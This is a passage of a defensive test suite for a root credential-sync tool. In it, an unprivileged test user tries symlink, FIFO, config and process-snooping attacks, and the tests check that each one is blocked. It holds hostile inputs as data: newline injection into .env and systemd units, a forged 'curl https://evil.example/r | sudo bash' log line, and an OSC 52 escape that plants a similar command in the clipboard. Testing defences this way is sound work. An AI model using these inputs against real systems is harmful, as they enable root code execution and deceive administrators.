/**
 * Least privilege, played as the attacker would: a real unprivileged user owns the places oauth-sync works in and
 * plants links, FIFOs, huge files, hostile tokens and configs between our runs. Every attack runs against the
 * compiled binary (as root, as the service does); a canary outside must stay untouched, no program oauth-sync starts
 * for that user may run as root, and the honest path must still work. Prints "N/N attacks held".
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { spawn, spawnSync } from "node:child_process";
import { appendFileSync, chmodSync, chownSync, copyFileSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, rmdirSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { credentialsJson, fakeToken } from "../../src/demo/sandbox.ts";
import { fingerprint } from "../../src/log/redact.ts";
import { encodeTokenMessage } from "../../src/push/message.ts";
import { bootSystemd, type SystemdContainer } from "../bed/systemd.ts";
import { aptEnsure } from "../support/apt.ts";
import { requireBinary } from "../support/binary.ts";
import { createTempUser, tempUserName, type TempUser } from "../support/users.ts";
import { waitUntil } from "../support/wait.ts";

const HOUR = 3_600_000;
const MALLORY = tempUserName("oauthsync-mallory");
let mallory: TempUser | undefined;
const CONTAINER_UID = 1000; // the uid OpenClaw's image runs as (node)
let uid = 0;
let gid = 0;
let base = "";
let bin = "";
const held: string[] = [];
const attacks: string[] = [];

/** Runs a shell command as the attacker: the kernel lets them do exactly what that user can. */
function asMallory(script: string) {
  const result = spawnSync("sh", ["-c", script], { uid, gid, encoding: "utf8" });
  if (result.status !== 0) throw new Error(`as ${MALLORY}: ${script}: ${result.stderr}`);
}

/** The compiled binary, run as root from a copy every user can execute (the clone may live under a 0700 dir). */
async function oauthSync(args: string[], timeoutMs = 30_000, env: Record<string, string> = {}) {
  const child = spawn(bin, args, { env: { PATH: `${base}/bin:/usr/local/bin:/usr/bin:/bin`, HOME: "/root", ...env } });
  let output = "";
  child.stdout.on("data", (c) => (output += c));
  child.stderr.on("data", (c) => (output += c));
  const code = await new Promise<number | null>((resolve) => {
    const timer = setTimeout(() => child.kill("SIGKILL"), timeoutMs);
    child.on("exit", (c) => {
      clearTimeout(timer);
      resolve(c);
    });
  });
  return { code, output };
}

function attack(name: string, body: () => Promise<void>, timeout = 60_000) {
  attacks.push(name);
  test(name, async () => {
    await body();
    held.push(name);
  }, timeout);
}

const canaryText = "CANARY: root's file, never to be written by oauth-sync\n";
const canary = () => join(base, "etc/canary.conf");
function expectCanaryUntouched() {
  expect(readFileSync(canary(), "utf8")).toBe(canaryText);
  expect(statSync(canary()).mode & 0o777).toBe(0o644);
  expect(existsSync(join(base, "etc/cron.d/oauth-sync-pwned"))).toBe(false);
}

/** A root-owned config (0600) in a root-only directory. */
function writeConfig(name: string, config: Record<string, unknown>): string {
  const path = join(base, "root", `${name}.json`);
  writeFileSync(path, JSON.stringify({ stateDir: join(base, "root/state", name), ...config }), { mode: 0o600 });
  return path;
}

function rootCredentials(token = fakeToken(), expiresAt = Date.now() + 8 * HOUR): string {
  const path = join(base, "root/claude/.credentials.json");
  writeFileSync(path, credentialsJson(token, expiresAt), { mode: 0o600 });
  return path;
}

beforeAll(() => {
  if (process.getuid?.() !== 0) throw new Error("the attack suite plays a real unprivileged user against root: run it as root");
  // Never uid/gid 1000, the container's (on a machine with no user yet, useradd would pick it).
  mallory = createTempUser("oauthsync-mallory", ["--no-create-home", "--shell", "/usr/sbin/nologin", "-K", "UID_MIN=1001", "-K", "GID_MIN=1001"]);
  ({ uid, gid } = mallory);
  base = `/tmp/oauth-sync-attacks-${process.pid}`;
  rmSync(base, { recursive: true, force: true });
  for (const dir of ["bin", "etc/cron.d", "root/claude", "root/state", "root/targets", "log"]) mkdirSync(join(base, dir), { recursive: true, mode: 0o755 });
  chmodSync(base, 0o755);
  chmodSync(join(base, "root"), 0o700);
  chmodSync(join(base, "log"), 0o1777); // fake programs record their uid here, whoever they run as
  writeFileSync(canary(), canaryText, { mode: 0o644 });
  bin = join(base, "bin/oauth-sync");
  copyFileSync(requireBinary(), bin);
  chmodSync(bin, 0o755);
  copyFileSync(process.execPath, join(base, "bin/bun")); // for the attacker's own renameat2 (bun:ffi)
  chmodSync(join(base, "bin/bun"), 0o755);
  for (const dir of ["mallory", "mallory/home", "mallory/home/.claude", "mallory/home/.openclaw", "mallory-home"]) {
    mkdirSync(join(base, dir), { mode: 0o755 });
    chownSync(join(base, dir), uid, gid);
  }
  // Fake programs (root's, 0755): each records the uid it ran as, and nothing else.
  for (const name of ["claude", "openclaw"]) {
    writeFileSync(join(base, "bin", name), `#!/bin/sh\necho "$(id -u) $*" >> ${base}/log/${name}.uids\ncat > /dev/null\nexit 0\n`, { mode: 0o755 });
  }
});

afterAll(() => {
  console.log(`${held.length}/${attacks.length} attacks held`);
  mallory?.remove(); // ends the attacker's processes too
  rmSync(base, { recursive: true, force: true });
});

const recordedUids = (name: string) =>
  existsSync(join(base, "log", `${name}.uids`)) ? readFileSync(join(base, "log", `${name}.uids`), "utf8").trim().split("\n").filter(Boolean).map((l) => Number(l.split(" ")[0])) : [];

describe("attacks on the places oauth-sync writes", () => {
  attack("a symlink planted at a target (.env -> root's file) writes nothing through it", async () => {
    asMallory(`ln -s ${canary()} ${base}/mallory/.env`);
    const config = writeConfig("symlink", { credentials: rootCredentials(), targets: [{ kind: "env-file", path: join(base, "mallory/.env") }] });
    const result = await oauthSync(["sync", "--config", config]);
    expect(result.code).toBe(1);
    expect(result.output).toContain("symbolic link");
    expectCanaryUntouched();
    expect(lstatSync(join(base, "mallory/.env")).isSymbolicLink()).toBe(true);
  });

  attack("a dangling symlink (file or directory) creates nothing where it points", async () => {
    asMallory(`mkdir -p ${base}/mallory/agents/main && ln -s ${base}/etc/cron.d/oauth-sync-pwned ${base}/mallory/agents/main/agent-file && ln -s ${base}/etc/cron.d ${base}/mallory/linkdir`);
    const config = writeConfig("dangling", {
      credentials: rootCredentials(),
      targets: [
        { kind: "openclaw-auth-profiles", path: join(base, "mallory/agents/main/agent-file") },
        { kind: "openclaw-auth-profiles", path: join(base, "mallory/linkdir/oauth-sync-pwned") },
      ],
    });
    const result = await oauthSync(["sync", "--config", config]);
    expect(result.code).toBe(1);
    expectCanaryUntouched();
    expect(spawnSync("ls", ["-A", join(base, "etc/cron.d")], { encoding: "utf8" }).stdout.trim()).toBe("");
  });

  attack("a FIFO swapped for a symlink and back while root reads: no hang, nothing written through it", async () => {
    const env = join(base, "mallory/race.env");
    const swapper = spawn("sh", ["-c", `for i in $(seq 1 400); do rm -f ${env}; mkfifo ${env}; rm -f ${env}; ln -s ${canary()} ${env}; done`], { uid, gid });
    const config = writeConfig("race", { credentials: rootCredentials(), targets: [{ kind: "env-file", path: env }] });
    for (let i = 0; i < 8; i++) {
      const result = await oauthSync(["sync", "--config", config], 20_000);
      expect(result.code).not.toBeNull(); // not killed by the timeout: it did not block
      expectCanaryUntouched();
    }
    swapper.kill();
  });

  attack("a FIFO target does not stall watch: the other target is synced, and SIGTERM ends it", async () => {
    asMallory(`mkfifo ${base}/mallory/fifo.json`);
    spawnSync("mkfifo", [join(base, "root/targets/fifo.env")]); // and one in root's own place, handled in-process
    const good = join(base, "root/targets/good.env");
    const token = fakeToken();
    const config = writeConfig("fifo-watch", {
      credentials: rootCredentials(token),
      targets: [
        { kind: "openclaw-auth-profiles", path: join(base, "mallory/fifo.json") },
        { kind: "env-file", path: join(base, "root/targets/fifo.env") },
        { kind: "env-file", path: good },
      ],
    });
    const child = spawn(bin, ["watch", "--config", config], { env: { PATH: "/usr/bin:/bin", HOME: "/root" } });
    const exited = new Promise<number | null>((resolve) => child.on("exit", (c) => resolve(c)));
    await waitUntil("the token in the honest target", () => existsSync(good) && readFileSync(good, "utf8").includes(token), { timeoutMs: 15_000, intervalMs: 50, onTimeout: "continue" });
    expect(readFileSync(good, "utf8")).toContain(token);
    child.kill("SIGTERM");
    const code = await Promise.race([exited, Bun.sleep(10_000).then(() => "still running")]);
    if (code === "still running") child.kill("SIGKILL");
    expect(code).toBe(0);
  });

  attack("credentials at /dev/zero, a FIFO or a huge file are refused at once, with bounded memory", async () => {
    const fifo = join(base, "root/claude/fifo.json");
    spawnSync("mkfifo", [fifo]);
    const huge = join(base, "root/claude/huge.json");
    spawnSync("truncate", ["-s", "2G", huge]);
    const link = join(base, "root/claude/zero.json");
    symlinkSync("/dev/zero", link); // root's own link in root's directory: followed, and then refused as a device
    for (const credentials of ["/dev/zero", fifo, huge, link]) {
      const config = writeConfig("zero", { credentials, targets: [{ kind: "env-file", path: join(base, "root/targets/zero.env") }] });
      const result = await oauthSync(["sync", "--config", config], 20_000);
      expect(result.code).toBe(3);
      expect(result.output).toMatch(/not a regular file|larger than/);
    }
    expect(existsSync(join(base, "root/targets/zero.env"))).toBe(false);
  });

  attack("a token with a newline never adds a line to .env, over two passes", async () => {
    const env = join(base, "root/targets/newline.env");
    writeFileSync(env, "OTHER=1\n", { mode: 0o600 });
    const credentials = join(base, "root/claude/.credentials.json");
    writeFileSync(credentials, credentialsJson(`${fakeToken()}\nCOMPOSE_FILE=/etc/evil.yml`, Date.now() + 8 * HOUR), { mode: 0o600 });
    const config = writeConfig("newline", { credentials, targets: [{ kind: "env-file", path: env }] });
    for (let pass = 0; pass < 2; pass++) {
      const result = await oauthSync(["sync", "--config", config]);
      expect(result.code).toBe(3);
      expect(result.output).toContain("does not look like a Claude OAuth token");
    }
    expect(readFileSync(env, "utf8")).toBe("OTHER=1\n");
  });

  attack("an expiry of 8640000000000001 is refused; status reports without a crash or a stack", async () => {
    const credentials = join(base, "root/claude/.credentials.json");
    writeFileSync(credentials, credentialsJson(fakeToken(), 8640000000000001), { mode: 0o600 });
    const config = writeConfig("expiry", { credentials, targets: [{ kind: "env-file", path: join(base, "root/targets/expiry.env") }] });
    expect((await oauthSync(["sync", "--config", config])).code).toBe(3);
    const status = await oauthSync(["status", "--config", config, "--json"]);
    expect(status.output).not.toMatch(/RangeError|\n\s+at |\$bunfs/);
    expect(status.output).toContain("between 2020 and 2100");
    rootCredentials(); // a good login afterwards is synced, not refused as older
    expect((await oauthSync(["sync", "--config", config])).code).toBe(0);
  });
});

describe("attacks on what steers oauth-sync", () => {
  attack("a newline in a path cannot inject unit directives (units, install --dry-run)", async () => {
    const evil = join(base, "root", "c\nExecStartPre=+touch pwned.json");
    writeFileSync(evil, JSON.stringify({ credentials: rootCredentials(), stateDir: join(base, "root/state/units"), targets: [{ kind: "env-file", path: join(base, "root/targets/u.env") }] }), { mode: 0o600 });
    const units = await oauthSync(["units", "--config", evil]);
    expect(units.code).not.toBe(0);
    expect(units.output).not.toContain("ExecStartPre=+/bin/touch");
    expect(units.output).toContain("control character");
    const inConfig = writeConfig("units-path", {
      credentials: "/root/.claude/x\nExecStartPre=+/bin/touch /tmp/pwned",
      targets: [{ kind: "env-file", path: join(base, "root/targets/u.env") }],
    });
    for (const args of [["units", "--config", inConfig], ["install", "--dry-run", "--yes", "--config", inConfig]]) {
      const result = await oauthSync(args);
      expect(result.code).toBe(2);
      expect(result.output).toContain("control character");
      expect(result.output).not.toContain("ExecStartPre=+/bin/touch");
    }
  });

  attack("a config a user owns, or anyone may write, or in a user's directory, is refused: its command gateway never runs", async () => {
    const marker = join(base, "log/gateway-ran");
    const body = {
      credentials: rootCredentials(),
      stateDir: join(base, "root/state/steer"),
      targets: [{ kind: "env-file", path: join(base, "root/targets/steer.env") }],
      gateway: { kind: "command", command: ["/bin/sh", "-c", `id -u > ${marker}`] },
    };
    const owned = join(base, "root/owned.json");
    writeFileSync(owned, JSON.stringify(body), { mode: 0o600 });
    chownSync(owned, uid, gid);
    const open = join(base, "root/open.json");
    writeFileSync(open, JSON.stringify(body), { mode: 0o666 });
    chmodSync(open, 0o666);
    const inUserDir = join(base, "mallory/config.json");
    writeFileSync(inUserDir, JSON.stringify(body), { mode: 0o600 });
    for (const [path, fix] of [[owned, "chown 0"], [open, "chmod go-w"], [inUserDir, "belongs to"]] as const) {
      const result = await oauthSync(["sync", "--config", path]);
      expect(result.code).toBe(2);
      expect(result.output).toContain(fix);
    }
    expect(existsSync(marker)).toBe(false);
  });

  attack("a state directory a user can write (or a link into one) is refused", async () => {
    const targets = [{ kind: "env-file", path: join(base, "root/targets/state.env") }];
    const userState = join(base, "mallory/state");
    asMallory(`mkdir ${userState}`);
    const linked = join(base, "root/state-link");
    symlinkSync(userState, linked); // root's link, but into mallory's directory
    for (const stateDir of [userState, linked, join(userState, "deeper")]) {
      const config = writeConfig("state", { credentials: rootCredentials(), stateDir, targets });
      const result = await oauthSync(["sync", "--config", config]);
      expect(result.code).toBe(2);
      expect(result.output).toContain("state directory");
    }
    expect(spawnSync("ls", ["-A", userState], { encoding: "utf8" }).stdout.trim()).toBe("");
  });

  attack("a webhook URL is never echoed by config check", async () => {
    const config = writeConfig("webhook", {
      credentials: rootCredentials(),
      targets: [{ kind: "env-file", path: join(base, "root/targets/w.env") }],
      notify: { webhooks: [{ url: "hooks.example.invalid/services/T000/SECRETPART0123456789", format: "slack" }] }, // mistyped: no scheme
    });
    const result = await oauthSync(["config", "check", "--config", config]);
    expect(result.code).toBe(2);
    expect(result.output).not.toContain("SECRETPART");
    expect(result.output).not.toContain("hooks.example");
  });
});

describe("attacks on the programs oauth-sync runs", () => {
  attack("a login swapped for a link to root's: the CLI never runs as root; the honest login runs it as its owner", async () => {
    const login = join(base, "mallory/home/.claude/.credentials.json");
    const config = writeConfig("trigger", {
      credentials: login,
      targets: [{ kind: "env-file", path: join(base, "root/targets/t.env") }],
      trigger: { mode: "host", claude: join(base, "bin/claude"), home: join(base, "mallory-home") }, // the owner's own HOME, in root's directory as /home/NAME is
      refresh: { confirmTries: 1 },
    });
    // Honest: mallory's own login, inside the refresh window → the CLI runs, as mallory.
    writeFileSync(login, credentialsJson(fakeToken(), Date.now() + 2 * 60_000), { mode: 0o600 });
    chownSync(login, uid, gid);
    await oauthSync(["check", "--config", config]);
    expect(recordedUids("claude")).toContain(uid);
    // Attack: the file swapped for a link to root's expiring login (a stat would follow it and say "root").
    rootCredentials(fakeToken(), Date.now() + 2 * 60_000);
    asMallory(`rm -f ${login} && ln -s ${base}/root/claude/.credentials.json ${login}`);
    await oauthSync(["check", "--config", config]);
    // Attack: trigger.user root configured against mallory's directory.
    const asRoot = writeConfig("trigger-root", {
      credentials: login,
      targets: [{ kind: "env-file", path: join(base, "root/targets/t.env") }],
      trigger: { mode: "host", claude: join(base, "bin/claude"), user: "root" },
      refresh: { confirmTries: 1 },
    });
    asMallory(`rm -f ${login}`);
    writeFileSync(login, credentialsJson(fakeToken(), Date.now() + 2 * 60_000), { mode: 0o600 });
    chownSync(login, uid, gid);
    const refused = await oauthSync(["check", "--config", asRoot]);
    expect(refused.code).toBe(2);
    expect(refused.output).toContain("owner of its login");
    expect(recordedUids("claude").length).toBeGreaterThan(0);
    expect(recordedUids("claude")).not.toContain(0);
  });

  attack("openclaw for a user's home runs as that user (sync, status), never as root", async () => {
    writeFileSync(join(base, "mallory/home/.openclaw/openclaw.json"), "{}\n");
    const home = join(base, "mallory/home");
    const target = { kind: "openclaw-cli", command: [join(base, "bin/openclaw")], env: { HOME: home } };
    const config = writeConfig("openclaw", { credentials: rootCredentials(), targets: [target] });
    const sync = await oauthSync(["sync", "--config", config]);
    expect(sync.code).toBe(0);
    await oauthSync(["status", "--config", config]);
    const asRoot = writeConfig("openclaw-root", { credentials: rootCredentials(), targets: [{ ...target, user: "root" }] });
    const refused = await oauthSync(["sync", "--config", asRoot]);
    expect(refused.code).toBe(1);
    expect(refused.output).toContain("only as the owner");
    const uids = recordedUids("openclaw");
    expect(uids.length).toBeGreaterThanOrEqual(2); // paste-token and models status
    expect(uids.every((u) => u === uid)).toBe(true);
  });
});

/** Compiles one of test/support/attacker/*.c with the machine's gcc into base/bin, where every user may run it. */
function compileAttacker(name: string): string {
  aptEnsure({ "/usr/bin/gcc": "gcc", "/usr/include/stdio.h": "libc6-dev" });
  const out = join(base, "bin", name);
  const built = spawnSync("gcc", ["-O2", "-Wall", "-o", out, join(import.meta.dir, "../support/attacker", `${name}.c`)], { encoding: "utf8" });
  if (built.status !== 0) throw new Error(`gcc ${name}.c: ${built.stderr}`);
  return out;
}

/**
 * Starts an attacker program as mallory, with `caps` (setpriv's form: "+sys_ptrace,+dac_read_search") as ambient
 * capabilities if given; `stop()` ends it and resolves with what it printed. The capabilities stand for a host where
 * the owner can read a process of its own uid after all (fs.suid_dumpable=1): the programs themselves touch only
 * processes of their own uid, and running this test's copy of the binary.
 */
function startAttacker(program: string, caps?: string) {
  const stopFile = join(base, "log", `stop-${Math.random().toString(36).slice(2)}`);
  const granted = caps ? ["--inh-caps", caps, "--ambient-caps", caps] : [];
  const child = spawn("setpriv", [`--reuid=${uid}`, `--regid=${gid}`, "--clear-groups", ...granted, program, "120", stopFile, bin]);
  let output = "";
  child.stdout.on("data", (c) => (output += c));
  child.stderr.on("data", (c) => (output += c));
  const exited = new Promise<void>((resolve) => child.on("close", () => resolve()));
  return {
    printed: () => output,
    async stop(): Promise<string> {
      writeFileSync(stopFile, "");
      await Promise.race([exited, Bun.sleep(10_000).then(() => child.kill("SIGKILL"))]);
      return output;
    },
  };
}

/** snoop's last line: how often it reached a worker's stdin and memory, and which tokens it saw there. */
function snoopSummary(output: string) {
  const m = /SUMMARY stdin (\d+)\/(\d+) memory (\d+)\/(\d+) refresh (\d+) access (\d+)/.exec(output);
  if (!m) throw new Error(`snoop printed no summary: ${output}`);
  const [stdinGot, stdinTried, memGot, memTried, refresh, access] = m.slice(1).map(Number) as [number, number, number, number, number, number];
  return { stdinGot, stdinTried, memGot, memTried, refresh, access };
}

/**
 * A cgroup with a task and a memory limit, like the unit's TasksMax and MemoryMax: cgroup v2 where the pids
 * controller is there, else v1's pids and memory hierarchies (a hybrid host). Remove it when done.
 */
function makeCgroup(name: string, pidsMax: number, memoryMax: number) {
  const v2 = existsSync("/sys/fs/cgroup/cgroup.controllers") && readFileSync("/sys/fs/cgroup/cgroup.controllers", "utf8").split(/\s+/).includes("pids");
  const pidsDir = v2 ? `/sys/fs/cgroup/${name}` : `/sys/fs/cgroup/pids/${name}`;
  const memDir = v2 ? pidsDir : `/sys/fs/cgroup/memory/${name}`;
  if (v2) writeFileSync("/sys/fs/cgroup/cgroup.subtree_control", "+pids +memory");
  for (const dir of new Set([pidsDir, memDir])) mkdirSync(dir);
  writeFileSync(join(pidsDir, "pids.max"), String(pidsMax));
  writeFileSync(join(memDir, v2 ? "memory.max" : "memory.limit_in_bytes"), String(memoryMax));
  const read = (dir: string, file: string) => (existsSync(join(dir, file)) ? readFileSync(join(dir, file), "utf8").trim() : "");
  return {
    /** The command, started by a shell that first moves itself into the cgroup. */
    async run(argv: string[], timeoutMs = 120_000) {
      const join2 = [...new Set([pidsDir, memDir])].map((d) => `echo $$ > ${d}/cgroup.procs`).join(" && ");
      const child = spawn("sh", ["-c", `${join2} && exec "$0" "$@"`, ...argv], { env: { PATH: "/usr/bin:/bin", HOME: "/root" } });
      let output = "";
      child.stdout.on("data", (c) => (output += c));
      child.stderr.on("data", (c) => (output += c));
      let peakSeen = 0;
      const sampler = setInterval(() => (peakSeen = Math.max(peakSeen, Number(read(pidsDir, "pids.current") || 0))), 5);
      const code = await new Promise<number | null>((resolve) => {
        const timer = setTimeout(() => child.kill("SIGKILL"), timeoutMs);
        child.on("exit", (c) => {
          clearTimeout(timer);
          resolve(c);
        });
      });
      clearInterval(sampler);
      return { code, output, peakSeen };
    },
    usage() {
      const refused = Number(/max (\d+)/.exec(read(pidsDir, "pids.events"))?.[1] ?? 0);
      const memoryPeak = Number(read(memDir, v2 ? "memory.peak" : "memory.max_usage_in_bytes") || 0);
      return { pidsPeak: Number(read(pidsDir, "pids.peak") || 0), refused, memoryPeak };
    },
    async remove() {
      for (const dir of new Set([pidsDir, memDir])) {
        // Workers leave when their parent has gone.
        await waitUntil("the cgroup's processes to leave", () => read(dir, "cgroup.procs") === "", { timeoutMs: 10_000, intervalMs: 50, onTimeout: "continue" });
        for (const pid of read(dir, "cgroup.procs").split("\n").filter(Boolean)) spawnSync("kill", ["-9", pid]);
        for (let i = 0; i < 50 && existsSync(dir); i++) {
          try {
            rmdirSync(dir);
          } catch {
            await Bun.sleep(50);
          }
        }
      }
    },
  };
}

describe("attacks on the worker that acts as a place's owner", () => {
  attack("the owner reading the worker's stdin (pidfd_getfd + MSG_PEEK) and memory during many syncs finds no refresh token", async () => {
    const snoop = compileAttacker("snoop");
    const dir = join(base, "mallory/snoop");
    asMallory(`mkdir -p ${dir}/agents/main/agent ${dir}/agents/oauth/agent`);
    const tokenForms = [
      { kind: "env-file", path: `${dir}/.env` },
      { kind: "openclaw-auth-profiles", path: `${dir}/agents/main/agent/auth-profiles.json` },
    ];
    let expiresAt = Date.now() + 8 * HOUR;
    const syncs = async (targets: unknown[]) => {
      const config = writeConfig("snoop", { credentials: rootCredentials(fakeToken(), expiresAt), targets });
      for (let i = 0; i < 15; i++) {
        rootCredentials(fakeToken(), (expiresAt += 1000)); // a new refresh token each time, too
        const result = await oauthSync(["sync", "--config", config]);
        expect(result.output).toContain("updated to token");
        expect(result.code).toBe(0);
      }
    };
    // Even reading every process of its uid (ptrace rights, and /proc's files of a non-dumpable process), the owner of
    // token-form targets finds the access token it is being given, and never the refresh token: it was never sent.
    const privileged = startAttacker(snoop, "+sys_ptrace,+dac_read_search");
    await Bun.sleep(200);
    // Batches of 15 until its reads have reached a request (a loaded machine can let a batch's short-lived workers
    // slip by between its scans): the proof that a read that finds no refresh token did reach what root sent.
    for (let batch = 0; batch < 6 && (batch === 0 || !privileged.printed().includes("ACCESS")); batch++) await syncs(tokenForms);
    const read = snoopSummary(await privileged.stop());
    expect(read.stdinGot + read.memGot).toBeGreaterThan(0);
    expect(read.access).toBeGreaterThan(0);
    expect(read.refresh).toBe(0);
    // As a plain user, against an oauth profile whose request does carry the refresh token: the worker is not
    // dumpable, so neither its stdin nor its memory is to be had.
    const plain = startAttacker(snoop);
    await Bun.sleep(200);
    await syncs([...tokenForms, { kind: "openclaw-auth-profiles", credentialType: "oauth", path: `${dir}/agents/oauth/agent/auth-profiles.json` }]);
    const denied = snoopSummary(await plain.stop());
    expect(denied.stdinTried + denied.memTried).toBeGreaterThan(0);
    expect(denied.stdinGot + denied.memGot).toBe(0);
    expect(denied.refresh).toBe(0);
  }, 180_000);

  attack("a forged answer (every id \"written\", a newline, a fake root line) fails only that owner's targets and is never recorded as written", async () => {
    const forge = compileAttacker("forge");
    const locked = join(base, "mallory/forged/locked");
    asMallory(`mkdir -p ${locked} && chmod 500 ${locked}`); // the worker cannot write there: every "written" is a lie
    const other = join(base, "container-forged");
    mkdirSync(other, { mode: 0o755 });
    chownSync(other, CONTAINER_UID, CONTAINER_UID);
    const targets = [{ kind: "env-file", path: join(locked, ".env") }, { kind: "env-file", path: join(other, ".env") }, { kind: "env-file", path: join(base, "root/targets/forged.env") }];
    const config = writeConfig("forged", { credentials: rootCredentials(), targets });
    const forger = startAttacker(forge, "+sys_ptrace");
    await Bun.sleep(200);
    const outputs: string[] = [];
    // At least 10 syncs, and on until a forged line has reached root (a worker lives only for its sync: the forger may
    // miss it, or reach it after its last answer).
    const reachedRoot = () => /answered garbage|spoke out of turn|does not hold the token/.test(outputs.join(""));
    for (let i = 0; i < 10 || (!reachedRoot() && i < 60); i++) {
      const token = fakeToken();
      rootCredentials(token, Date.now() + 8 * HOUR + i * 1000);
      const result = await oauthSync(["sync", "--config", config]);
      outputs.push(result.output);
      expect(result.code).toBe(1);
      expect(result.output).toMatch(new RegExp(`locked/\\.env: (acting as|cannot act as|cannot write)`));
      expect(result.output).not.toMatch(/locked\/\.env: updated/);
      for (const honest of [join(other, ".env"), join(base, "root/targets/forged.env")]) expect(readFileSync(honest, "utf8")).toContain(token);
      const state = JSON.parse(readFileSync(join(base, "root/state/forged/state.json"), "utf8"));
      expect(state.targets[`env-file:${join(locked, ".env")}`]?.fingerprint).toBeUndefined();
      expect(state.targets[`env-file:${join(other, ".env")}`]?.fingerprint).toBe(fingerprint(token));
    }
    const printed = outputs.join("");
    expect(printed).not.toMatch(/^\[error\] (oauth-sync: root login expired|FORGED-RAW-LINE)/m);
    expect(printed).not.toContain("\x1b]52");
    expect(existsSync(join(locked, ".env"))).toBe(false);
    const forged = await forger.stop();
    expect(Number(/SUMMARY reached (\d+)/.exec(forged)?.[1] ?? 0)).toBeGreaterThan(0);
    expect(reachedRoot()).toBe(true); // forged lines did reach root
  }, 120_000);

  attack("the owner stopping its worker (SIGSTOP) costs that owner's targets one timeout, not one each, and no one else's", async () => {
    const dir = join(base, "mallory/stopped");
    asMallory(`for i in 1 2 3 4 5; do mkdir -p ${dir}/agents/a$i/agent; done`);
    const other = join(base, "container-stopped");
    mkdirSync(other, { mode: 0o755 });
    chownSync(other, CONTAINER_UID, CONTAINER_UID);
    const own = [1, 2, 3, 4, 5].map((i) => `${dir}/agents/a${i}/agent/auth-profiles.json`);
    const honest = [join(other, ".env"), join(base, "root/targets/stopped.env")];
    const targets = [...own.map((path) => ({ kind: "openclaw-auth-profiles", path })), ...honest.map((path) => ({ kind: "env-file", path }))];
    let expiresAt = Date.now() + 8 * HOUR;
    const first = fakeToken();
    const config = writeConfig("stopped", { credentials: rootCredentials(first, expiresAt), targets });
    const watch = spawn(bin, ["watch", "--config", config], { env: { PATH: "/usr/bin:/bin", HOME: "/root" } });
    let output = "";
    watch.stdout.on("data", (c) => (output += c));
    watch.stderr.on("data", (c) => (output += c));
    const holds = (paths: string[], token: string) => paths.every((p) => existsSync(p) && readFileSync(p, "utf8").includes(token));
    const until = async (done: () => boolean, ms: number) => {
      await waitUntil("the targets", done, { timeoutMs: ms, intervalMs: 50, onTimeout: "continue" });
      return done();
    };
    try {
      expect(await until(() => holds([...own, ...honest], first), 15_000)).toBe(true);
      const worker = spawnSync("pgrep", ["-u", String(uid), "-P", String(watch.pid), "-f", "__as-owner"], { encoding: "utf8" }).stdout.trim();
      expect(worker).toMatch(/^\d+$/);
      asMallory(`kill -STOP ${worker}`); // its own process: the owner may signal it
      const second = fakeToken();
      const rotated = Date.now();
      rootCredentials(second, (expiresAt += 1000));
      expect(await until(() => holds(honest, second), 10_000)).toBe(true); // no one else waits for it
      // Each of the owner's five targets reports the stopped worker (the requests under way time out together, any
      // still queued are not tried), all within one timeout, not five in a row.
      const reported = () => own.every((path) => output.split("\n").some((line) => line.includes(path) && /timed out after 30 s/.test(line)));
      expect(await until(reported, 50_000)).toBe(true);
      expect(Date.now() - rotated).toBeLessThan(45_000);
      const third = fakeToken();
      rootCredentials(third, (expiresAt += 1000));
      expect(await until(() => holds([...own, ...honest], third), 15_000)).toBe(true); // a new worker for the next pass
    } finally {
      watch.kill("SIGTERM");
      spawnSync("pkill", ["-KILL", "-u", String(uid), "-f", `${bin} __as-owner`]);
    }
  }, 120_000);

  attack("100 agent targets of one user beside a second user's target, in a cgroup with pids.max=128: the second user's target is synced, memory stays bounded", async () => {
    const flood = join(base, "mallory/flood");
    asMallory(`for i in $(seq 1 100); do mkdir -p ${flood}/agents/a$i/agent; done`);
    const second = join(base, "container-flood");
    mkdirSync(second, { mode: 0o755 });
    chownSync(second, CONTAINER_UID, CONTAINER_UID);
    const token = fakeToken();
    const targets = [
      ...Array.from({ length: 100 }, (_, i) => ({ kind: "openclaw-auth-profiles", path: `${flood}/agents/a${i + 1}/agent/auth-profiles.json` })),
      { kind: "env-file", path: join(second, ".env") },
    ];
    const config = writeConfig("flood", { credentials: rootCredentials(token), targets });
    const cgroup = makeCgroup(`oauth-sync-attacks-${process.pid}-${Date.now().toString(36)}`, 128, 1024 ** 3);
    try {
      const result = await cgroup.run([bin, "sync", "--config", config]);
      const usage = cgroup.usage();
      console.log(`flood: exit ${result.code}, tasks peak ${usage.pidsPeak || result.peakSeen} (sampled ${result.peakSeen}), forks refused ${usage.refused}, memory peak ${(usage.memoryPeak / 2 ** 20).toFixed(0)} MiB`);
      expect({ code: result.code, output: result.output }).toEqual({ code: 0, output: expect.any(String) }); // the output, if not
      expect(readFileSync(join(second, ".env"), "utf8")).toContain(token);
      expect(result.output).not.toContain("no complete message");
      expect(readdirSync(`${flood}/agents`).every((a) => readFileSync(`${flood}/agents/${a}/agent/auth-profiles.json`, "utf8").includes(token))).toBe(true);
      expect(usage.refused).toBe(0);
      expect(usage.memoryPeak).toBeLessThan(512 * 2 ** 20);
    } finally {
      await cgroup.remove();
    }
  }, 180_000);
});

/**
 * Text from the other side: an agent controls its container's log (quoted when a reload fails), a user's own
 * `openclaw` output (quoted when it fails) and its agent directory names (paths in targets, install's detection).
 */
const ESC = "\x1b";
const FORGED = "[error] oauth-sync: root login expired";
const FORGED_LINE = `${FORGED}, run: curl https://evil.example/r | sudo bash`;
const MARKUP = "<!channel> <https://evil.example/r|https://claude.ai/login> @everyone [https://claude.ai/login](https://evil.example/r) ```";
/** Window title, the admin's clipboard (OSC 52: `curl evil.example/r|sh`), a C1 CSI, mentions and links; then erase the line, CR and a forged line. */
const HOSTILE = `gateway crashed ${ESC}]0;pwned\x07${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUvcnxzaA==\x07\u009b2J ${MARKUP}\n${ESC}[2K\r${FORGED_LINE}\n`;
const AGENT = "<!channel> @everyone [login](evil.example)";
const FORMATS = ["slack", "mattermost", "discord", "ntfy", "json"] as const;

function writeAsMallory(path: string, text: string) {
  const result = spawnSync("sh", ["-c", 'cat > "$0"', path], { uid, gid, input: text, encoding: "utf8" });
  if (result.status !== 0) throw new Error(`as ${MALLORY}: write ${path}: ${result.stderr}`);
}

/** The compiled binary on a pseudo-terminal (util-linux script), as root at a terminal runs it. */
function onPty(args: string[]): string {
